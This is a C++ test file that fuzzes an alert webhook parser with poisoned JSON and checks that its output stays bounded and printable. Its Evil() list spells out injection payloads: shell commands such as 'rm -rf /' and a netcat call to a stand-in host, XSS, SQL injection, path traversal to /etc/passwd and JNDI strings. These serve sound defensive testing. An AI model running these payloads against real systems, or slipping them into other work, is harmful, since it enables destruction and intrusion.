// Tests with messages that mean harm: whatever they hold, what comes out is bounded and printable.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <array>
#include <boost/json/parse.hpp>
#include <boost/json/serialize.hpp>
#include <random>

#include "alert/inbound/inbound.h"
#include "alert/inbound/world_testing.h"
#include "base/text.h"

namespace alert::inbound {
namespace {

namespace json = boost::json;
using ::testing::HasSubstr;
using ::testing::SizeIs;

void ExpectTame(const Inbound& in) {
  const auto tame = [](const model::Labels& labels) {
    EXPECT_LE(labels.size(), kMaxLabels);
    for (const auto& [name, value] : labels) {
      EXPECT_TRUE(model::IsLabelName(name)) << name;
      EXPECT_LE(name.size(), 128U);
      EXPECT_LE(value.size(), kMaxValue);
      EXPECT_TRUE(base::IsPrintable(value)) << value;
    }
  };
  EXPECT_LE(in.alerts.size(), kMaxAlerts);
  EXPECT_LE(in.ignored.size(), kMaxIgnored);
  for (const auto& alert : in.alerts) {
    tame(alert.labels);
    tame(alert.annotations);
    EXPECT_TRUE(alert.generator_url.empty() || alert.generator_url.starts_with("http"));
    EXPECT_TRUE(base::IsPrintable(alert.generator_url));
    EXPECT_LE(alert.generator_url.size(), kMaxValue);
    const std::array<Place, 1> place = {Place{"target", std::string(alert.Target()), true}};
    EXPECT_EQ(TestTargets().Find(place).target, alert.Target()) << "a target of ours";
    EXPECT_FALSE(alert.Name().empty());
    EXPECT_TRUE(alert.Metric().empty() || model::IsMetricName(alert.Metric()));
    EXPECT_LE(alert.starts_at, kTestNow);
  }
  for (const auto& end : in.ends) {
    tame(end);
    EXPECT_FALSE(end.Get("source").empty());
  }
  for (const auto& sentence : in.ignored) {
    EXPECT_TRUE(base::IsPrintable(sentence)) << sentence;
    EXPECT_LE(sentence.size(), 1024U);
  }
}

/// A text that would do harm unquoted in a shell, a page, a query or a log.
std::string Evil(std::mt19937& random) {
  static const std::vector<std::string> kTexts = {"$(touch /tmp/pwned)",
                                                  "`reboot`",
                                                  "; rm -rf / #",
                                                  "| nc evil.test 1 &",
                                                  "' || true; '",
                                                  "<script>alert(1)</script>",
                                                  "\"><img src=x onerror=alert(1)>",
                                                  "javascript:alert(1)",
                                                  "'; DROP TABLE incidents; --",
                                                  "1 OR 1=1",
                                                  "x\nlevel=error msg=\"forged\"",
                                                  "a\r\n\r\nHTTP/1.1 200",
                                                  "\x1b[2J\x1b]0;owned\x07",
                                                  std::string("nul\0byte", 8),
                                                  "\xE2\x80\xAEgnp.exe",
                                                  "{{7*7}}",
                                                  "${jndi:x}",
                                                  "../../../etc/passwd",
                                                  "%n%n%s",
                                                  std::string(5000, 'A'),
                                                  std::string(3000, '\x01'),
                                                  "\xC2\x85next",
                                                  "*UNKNOWN*",
                                                  "{EVENT.ID}",
                                                  "-oProxyCommand=evil",
                                                  "192.0.2.21;reboot",
                                                  "http://shop.test/\n$(id)"};
  return kTexts[random() % kTexts.size()];
}

/// `value` with each text, number and some names in it replaced by evil ones; `keep`, the fields
/// that make a message what it is, mostly stays.
json::value Poison(const json::value& value, std::mt19937& random) {
  if (const auto* object = value.if_object()) {
    json::object out;
    for (const auto& member : *object) {
      const bool keep = member.key() == "version" || member.key() == "status" ||
                        member.key() == "state" || member.key() == "event_value" ||
                        member.key() == "event_source" || member.key() == "ruleId";
      const auto name = random() % 20 == 0 ? Evil(random) : std::string(member.key());
      out[name] = keep && random() % 8 != 0 ? member.value() : Poison(member.value(), random);
    }
    for (int i = static_cast<int>(random() % 4) - 1; i > 0; --i) {
      out[Evil(random)] = Evil(random);
    }
    return out;
  }
  if (const auto* array = value.if_array()) {
    json::array out;
    for (const auto& item : *array) {
      out.push_back(Poison(item, random));
    }
    return out;
  }
  switch (random() % 12) {
    default:
      return value;  // so that targets are still found
    case 1:
      return json::array{Evil(random), 1, nullptr};
    case 2:
      return json::object{{Evil(random), Evil(random)}};
    case 3:
      return 1e300 * static_cast<double>(random());
    case 4:
    case 5:
    case 6:
      return json::value(Evil(random));
  }
}

TEST(Hostile, TwoHundredPoisonedMessagesOfEachSender) {
  std::mt19937 random(20260303);
  std::size_t alerts = 0;
  for (const auto* name :
       {"grafana_legacy_port.json", "grafana_legacy_http.json", "grafana_legacy_ok.json",
        "grafana_unified.json", "alertmanager.json", "alertmanager_api_v2.json",
        "zabbix_ansible.json", "zabbix_own_problem.json", "zabbix_own_recovery.json",
        "kuma_down.json", "kuma_up.json", "kuma_port_down.json"}) {
    const auto clean = json::parse(Fixture(name));
    for (int i = 0; i < 200; ++i) {
      const auto body = json::serialize(Poison(clean, random));
      const auto in = Read("/api/v1/webhook", "application/json", body, TestContext());
      if (in) {
        alerts += in->alerts.size();
        ExpectTame(*in);
        EXPECT_TRUE(base::IsPrintable(Reply(*in)));
      } else {
        EXPECT_TRUE(base::IsPrintable(in.error().message));
      }
    }
  }
  EXPECT_GT(alerts, 200U) << "the poison must reach alerts";
}

TEST(Hostile, EachLabelOfAKnownTargetPoisoned) {
  std::mt19937 random(7);
  for (int i = 0; i < 200; ++i) {
    const auto evil = Evil(random);
    json::object labels{{"target", "shop"}};
    for (const auto* name : {"alertname", "severity", "metric", "port", "instance", "job", "source",
                             "__name__", "a b", "1x", ""}) {
      labels[name] = evil;
    }
    const json::array body{json::object{{"labels", labels},
                                        {"annotations", labels},
                                        {"generatorURL", evil},
                                        {"startsAt", evil},
                                        {"endsAt", evil}}};
    const auto in = Take("/api/v2/alerts", json::serialize(body));
    ASSERT_THAT(in.alerts, SizeIs(1));
    ExpectTame(in);
    EXPECT_EQ(in.alerts[0].Target(), "shop");
    EXPECT_EQ(in.alerts[0].labels.Get("source"), "alertmanager");
    EXPECT_EQ(in.alerts[0].Metric(), "");
    EXPECT_FALSE(in.alerts[0].labels.Has("port"));
    EXPECT_TRUE(in.alerts[0].Firing());
  }
}

TEST(Hostile, ManyLabelsLeaveRoomForThoseThatDecide) {
  json::object labels;
  for (int i = 0; i < 3000; ++i) {
    labels["l" + std::to_string(i)] = std::string(static_cast<std::size_t>(i), 'v');
  }
  labels["alertname"] = "Many";
  labels["metric"] = "port";
  labels["instance"] = "192.0.2.21:80";
  const auto in =
      Take("/api/v2/alerts", json::serialize(json::array{json::object{{"labels", labels}}}));
  ASSERT_THAT(in.alerts, SizeIs(1));
  ExpectTame(in);
  EXPECT_EQ(in.alerts[0].Name(), "Many");
  EXPECT_EQ(in.alerts[0].labels.Get("port"), "80");
}

TEST(Hostile, ManyAlertsAreCutAndSaid) {
  for (const auto* target : {"shop", "nobody"}) {
    json::array list;
    for (int i = 0; i < 3000; ++i) {
      list.push_back(json::object{
          {"labels", json::object{{"alertname", "a" + std::to_string(i)}, {"target", target}}}});
    }
    const auto in = Take("/api/v2/alerts", json::serialize(list));
    ExpectTame(in);
    if (in.unknown_targets == 0) {
      EXPECT_THAT(in.alerts, SizeIs(kMaxAlerts));
      EXPECT_THAT(in.ignored.back(), HasSubstr("2000 more alerts were left out"));
    } else {
      EXPECT_EQ(in.unknown_targets, 1000);
      EXPECT_THAT(in.ignored.back(), HasSubstr("more like these"));
    }
  }
}

TEST(Hostile, KeysTwiceBrokenTextAndCutMessages) {
  const auto in =
      Take("/api/v2/alerts", R"([{"labels":{"target":"nobody","alertname":"x","target":"shop"}}])");
  EXPECT_THAT(in.alerts, SizeIs(1));  // the last one counts
  EXPECT_FALSE(
      Read("/api/v2/alerts", "", "[{\"labels\":{\"target\":\"\xC0\xAF\"}}]", TestContext()));
  const auto whole = Fixture("kuma_down.json");
  for (std::size_t n = 0; n + 3 < whole.size(); ++n) {
    EXPECT_FALSE(Read("/api/v1/webhook", "", std::string_view(whole).substr(0, n), TestContext()))
        << n;
  }
}

TEST(Hostile, TextsAreCutBetweenCharacters) {
  std::string thai;
  for (int i = 0; i < 600; ++i) {
    thai += "ก";
  }
  const auto in =
      Take("/api/v2/alerts", R"([{"labels":{"target":"shop","alertname":"x)" + thai + R"("}}])");
  ASSERT_THAT(in.alerts, SizeIs(1));
  ExpectTame(in);
  EXPECT_EQ(in.alerts[0].Name().size(), 1 + 341 * 3U);
}

}  // namespace
}  // namespace alert::inbound
